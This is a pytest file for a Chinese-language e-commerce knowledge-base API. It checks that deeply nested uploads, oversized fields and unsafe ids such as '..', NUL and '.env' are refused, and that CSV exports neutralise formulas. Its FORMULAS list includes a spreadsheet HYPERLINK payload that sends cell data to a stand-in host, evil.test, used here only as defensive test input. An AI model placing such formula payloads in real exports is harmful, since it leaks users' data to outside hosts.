"""Input limits through the real app: nesting, caps and the id alphabet refused with a 400/422 in the one error shape
(never a 500), a refused announcement publishes nothing, a Chinese id's Location header, mathtext in a chart label
and formulas in CSV exports."""

from __future__ import annotations

import csv
import io
import json
from typing import Any
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient

from knowledge.indexing import Indexer
from knowledge.limits import MAX_ANSWER_CHARS, MAX_DEPTH, MAX_EXAMPLES, MAX_ID_CHARS, MAX_QUESTION_CHARS
from knowledge.models import Entry
from tests.api.conftest import ROWS, assert_error, total
from tests.fakes import HashingEmbedder

ROW: dict[str, Any] = {"id": "ship-009", "locale": "zh", "question": "我的快递怎么还没到？",
                       "answer": "亲，48小时内发出。"}
NOTICE: dict[str, Any] = {"title": "春节发货安排", "body": "春节期间暂停发货，2月18日起恢复。", "locale": "zh",
                          "valid_until": "2099-02-18T00:00:00+08:00"}


def upload(client: TestClient, name: str, content: bytes) -> Any:
    return client.post("/v1/knowledge", files={"file": (name, content, "application/octet-stream")})


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def unchecked(client: TestClient) -> TestClient:
    """The same app, answering a server error with its 500 rather than raising it into the test."""
    return TestClient(client.app, raise_server_exceptions=False)


# --- uploads and rows ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("faq.jsonl", (json.dumps(ROW, ensure_ascii=False)[:-1] + f', "tags": {nested(100_000)}}}').encode()),
        ("notices.csv", ("id,locale,kind,title,answer,scope\nann-1,zh,announcement,通知,延迟,"
                         f'"{{""skus"": {nested(20_000)}}}"\n').encode()),
        ("policies.md", f"---\ntags: {nested(4_000)}\n---\n# 退货\n七天无理由退货。\n".encode()),
    ],
    ids=["jsonl", "csv-scope", "md-front-matter"],
)
def test_an_upload_nested_too_deeply_is_a_400(client: TestClient, name: str, content: bytes) -> None:
    response = upload(unchecked(client), name, content)

    message = assert_error(response, 400, "invalid_file")
    assert f"nests deeper than {MAX_DEPTH} levels" in message
    assert total(client) == 0


def test_json_rows_nested_too_deeply_are_a_400(client: TestClient) -> None:
    row = json.dumps(ROW, ensure_ascii=False)[:-1] + f', "examples": {nested(MAX_DEPTH + 5)}}}'

    response = client.post("/v1/knowledge", content=f'{{"entries": [{row}]}}',
                           headers={"content-type": "application/json"})

    assert_error(response, 400, "invalid_file")
    assert response.json()["error"]["problems"] == [f"entry 1: nests deeper than {MAX_DEPTH} levels"]


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({"answer": "x" * 3_000_000}, f"answer: at most {MAX_ANSWER_CHARS} characters, not 3000000"),
        ({"question": "问" * (MAX_QUESTION_CHARS + 1)}, f"question: at most {MAX_QUESTION_CHARS} characters"),
        ({"examples": [f"问题{n}" for n in range(MAX_EXAMPLES + 1)]}, f"examples: at most {MAX_EXAMPLES} items"),
    ],
    ids=["answer-3M", "question", "examples"],
)
def test_an_upload_over_a_cap_is_a_400_and_indexes_nothing(
    client: TestClient, change: dict[str, Any], problem: str
) -> None:
    content = "\n".join(json.dumps(r, ensure_ascii=False) for r in (ROW, {**ROW, "id": "ship-010", **change}))

    message = assert_error(upload(client, "faq.jsonl", content.encode()), 400, "invalid_file")

    assert f"line 2: {problem}" in message
    assert total(client) == 0


@pytest.mark.parametrize("bad_id", ["..", "x\u0000y", "a@zh", ".env", "a" * (MAX_ID_CHARS + 1)],
                         ids=["dots", "nul", "at", "leading-dot", "too-long"])
def test_unsafe_entry_ids_are_a_400(client: TestClient, bad_id: str) -> None:
    response = client.post("/v1/knowledge", json={"entries": [{**ROW, "id": bad_id}]})

    assert_error(response, 400, "invalid_file")
    assert response.json()["error"]["problems"][0].startswith("entry 1: id: ")
    assert total(client) == 0


def test_a_chinese_entry_id_is_indexed_and_read_back(client: TestClient) -> None:
    assert client.post("/v1/knowledge", json={"entries": [{**ROW, "id": "退货-七天.v2"}]}).status_code == 200

    response = client.get("/v1/knowledge/退货-七天.v2")

    assert response.status_code == 200 and response.json()["entries"][0]["id"] == "退货-七天.v2"


@pytest.mark.parametrize("path", ["/v1/knowledge/x%00y", "/v1/knowledge/" + "a" * (MAX_ID_CHARS + 1),
                                  "/v1/announcements/x%07y", "/v1/announcements/x%00y/expire"])
def test_ids_in_paths_are_checked(client: TestClient, path: str) -> None:
    response = client.post(path) if path.endswith("/expire") else client.get(path)

    assert_error(response, 422, "invalid_request")


# --- announcements ---------------------------------------------------------------------------------------------


def test_an_announcement_with_a_chinese_id_gets_an_encoded_location(client: TestClient) -> None:
    response = unchecked(client).post("/v1/announcements", json={**NOTICE, "id": "公告-春节"})

    assert response.status_code == 201, response.text
    location = response.headers["location"]
    assert location == "/v1/announcements/%E5%85%AC%E5%91%8A-%E6%98%A5%E8%8A%82"
    assert unquote(location) == "/v1/announcements/公告-春节"
    assert client.get(location).json()["items"][0]["id"] == "公告-春节"


@pytest.mark.parametrize(
    ("change", "status", "mentions"),
    [
        ({"id": "a@zh"}, 422, "id: use letters of any script"),
        ({"id": "..", "title": "t"}, 422, "id: use letters"),
        ({"id": "a" * (MAX_ID_CHARS + 1)}, 422, f"at most {MAX_ID_CHARS} characters"),
        ({"body": "延" * (MAX_ANSWER_CHARS + 1)}, 422, f"body: String should have at most {MAX_ANSWER_CHARS}"),
        ({"title": "标" * (MAX_QUESTION_CHARS + 1)}, 422, f"title: String should have at most {MAX_QUESTION_CHARS}"),
        ({"scope": {"skus": [f"SKU-{n}" for n in range(501)]}}, 422, "scope: skus: at most 500 items"),
        ({"scope": {"skus": json.loads(nested(50))}}, 422, "scope.skus"),
    ],
    ids=["at", "dots", "long-id", "long-body", "long-title", "many-skus", "nested-scope"],
)
def test_a_refused_announcement_publishes_nothing(
    client: TestClient, change: dict[str, Any], status: int, mentions: str
) -> None:
    response = unchecked(client).post("/v1/announcements", json={**NOTICE, **change})

    assert mentions in assert_error(response, status, "invalid_request")
    assert client.get("/v1/announcements", params={"state": "all"}).json()["total"] == 0


def test_an_announcement_nested_past_the_parser_is_a_400(client: TestClient) -> None:
    body = json.dumps(NOTICE, ensure_ascii=False)[:-1] + f', "scope": {{"skus": {nested(100_000)}}}}}'

    response = unchecked(client).post("/v1/announcements", content=body.encode(),
                                      headers={"content-type": "application/json"})

    assert response.status_code == 400 and "error" in response.json()
    assert client.get("/v1/announcements", params={"state": "all"}).json()["total"] == 0


# --- exports ---------------------------------------------------------------------------------------------------


def test_an_entry_id_with_mathtext_charts_as_text(seeded: TestClient, fake_embedder: HashingEmbedder) -> None:
    """An entry stored under the older id rules (`$` was allowed) still charts: its id is text, not TeX."""
    shop = seeded.app.state.components.shops.get()  # type: ignore[attr-defined]
    odd = Entry.model_validate({**ROWS[0], "id": "math$\\undefinedcommand{x}$", "question": "快递物流查询"})
    Indexer(fake_embedder, shop.store).index([odd])
    drafted = seeded.post("/v1/drafts", json={"message": "快递物流查询", "platform": "taobao"}).json()
    assert odd.id in [c["id"] for c in drafted["citations"]]
    seeded.post(f"/v1/drafts/{drafted['id']}/feedback", json={"action": "accepted"})

    response = unchecked(seeded).get("/v1/analytics/acceptance", params={"by": "entry", "format": "svg"})

    assert response.status_code == 200, response.text
    assert "math$\\undefinedcommand{x}$" in response.text


FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_gap_exports_neutralise_formulas(seeded: TestClient, formula: str) -> None:
    """As the buyer's message (stripped of spaces when drafted) and as the agent's reason for rejecting."""
    drafted = seeded.post("/v1/drafts", json={"message": formula, "platform": "amazon"}).json()
    seeded.post(f"/v1/drafts/{drafted['id']}/feedback", json={"action": "rejected", "reason": formula})

    exported = seeded.get("/v1/analytics/gaps", params={"format": "csv"})

    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    cells = {r["examples"] for r in rows} | {r["reasons"] for r in rows}
    assert f"'{formula}" in cells and f"'{formula.strip()}" in cells, cells  # a leading ' shows the cell as text
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in r), rows
